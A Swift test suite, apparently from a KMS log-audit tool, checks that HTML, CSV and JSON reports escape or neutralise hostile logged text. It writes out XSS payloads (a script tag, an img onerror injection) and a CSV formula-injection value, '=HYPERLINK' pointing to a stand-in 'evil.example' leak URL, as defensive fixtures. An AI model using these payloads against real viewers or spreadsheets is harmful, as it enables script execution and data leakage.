import Foundation
import Testing
@testable import KMSAudit

/// Log text is written by whoever made the call. The fixture plants the issue's hostile strings
/// in stored events and findings: a user agent `<script>alert(1)</script>`, a role ARN with
/// `"><img src=x onerror=alert(1)>` (as principal and as key id), encryption-context values
/// starting with `=HYPERLINK(`, `+`, `-`, `@`, and user agents / session names starting with
/// those characters, a tab or a carriage return. (The Chromium suite checks the browser's DOM of
/// the same report: one script element, the report's own, and no image.)
@Suite struct ReportHostileTextTests {
    @Test func htmlEscapesAllOfIt() throws {
        let fixture = try ReportFixture.make()
        defer { fixture.remove() }
        let html = try HTMLReport.render(try fixture.model())
        #expect(!html.contains("<script>alert(1)</script>"))
        #expect(!html.contains("<img"))
        #expect(!html.contains("onerror=alert(1)>"))
        #expect(Chromium.count("<script\\b", in: html) == 1)
        // ... and shows it, as text.
        #expect(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
        #expect(html.contains("role/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"))
        #expect(html.contains(#"data-key="arn:aws:kms:us-west-2:111122223333:key/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;""#))
        #expect(html.contains("Hyperlink==HYPERLINK(&quot;http://evil.example/?leak&quot;,&quot;Click&quot;)"))
    }

    @Test func csvNeutralisesEveryFormulaStart() throws {
        let fixture = try ReportFixture.make()
        defer { fixture.remove() }
        let model = try fixture.model()
        let findings = try ReportCSVTests.read(try CSVReport.findings(model)).rows
        let evidence = try ReportCSVTests.read(try fixture.database.queue.read { db in try CSVReport.evidence(model, db: db) }).rows
        // No cell a spreadsheet would evaluate.
        for row in findings + evidence {
            for cell in row { #expect(!SpreadsheetSafety.isDangerous(cell), "dangerous cell: \(cell.debugDescription)") }
        }
        // Each hostile user agent is there, prefixed by one quote and otherwise intact.
        let agents = Set(evidence.filter { $0[1] == "KMS-002" }.map { $0[7] })
        for agent in ReportFixture.formulaAgents { #expect(agents.contains("'" + agent), "missing \(agent.debugDescription)") }
        #expect(agents.contains(ReportFixture.scriptAgent))
        // The encryption context is one JSON text cell: it starts with "{", and its values
        // (the formula-like ones) are exactly as logged inside it.
        let contexts = evidence.filter { $0[1] == "KMS-002" && $0[2].hasPrefix("0badc0de") }.map { $0[9] }
        #expect(contexts.count == ReportFixture.formulaAgents.count + 1)
        for context in contexts {
            #expect(context.hasPrefix("{"))
            let parsed = try JSONSerialization.jsonObject(with: Data(context.utf8)) as? [String: String]
            #expect(parsed == ReportFixture.formulaContext)
        }
        // Quotes, commas and line breaks survive RFC 4180 quoting.
        #expect(evidence.contains { $0[5] == ReportFixture.imgPrincipal })
        #expect(findings.contains { $0[4] == ReportFixture.imgPrincipal && $0[3] == ReportFixture.imgKey })
        let remediation = try #require(findings.first { $0[9] == "f003ba1c" }?[11])
        #expect(remediation == "'- Set BackupRetentionPeriod to 7 days or more (ModifyDBCluster).\n- Copy a snapshot under a second key.")
    }

    @Test func jsonKeepsTheTextExactly() throws {
        let fixture = try ReportFixture.make()
        defer { fixture.remove() }
        let text = try JSONReport.render(try fixture.model())
        let json = try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any])
        let findings = try #require(json["findings"] as? [[String: Any]])
        let crossAccount = try #require(findings.first { $0["fingerprint"] as? String == "f002c1055" })
        #expect(crossAccount["principal"] as? String == ReportFixture.imgPrincipal)
        let events = try #require(crossAccount["evidence_events"] as? [[String: Any]])
        let agents = events.compactMap { $0["user_agent"] as? String }
        #expect(Set(agents) == Set([ReportFixture.scriptAgent] + ReportFixture.formulaAgents))
        #expect(events.first?["encryption_context"] as? [String: String] == ReportFixture.formulaContext)
    }
}
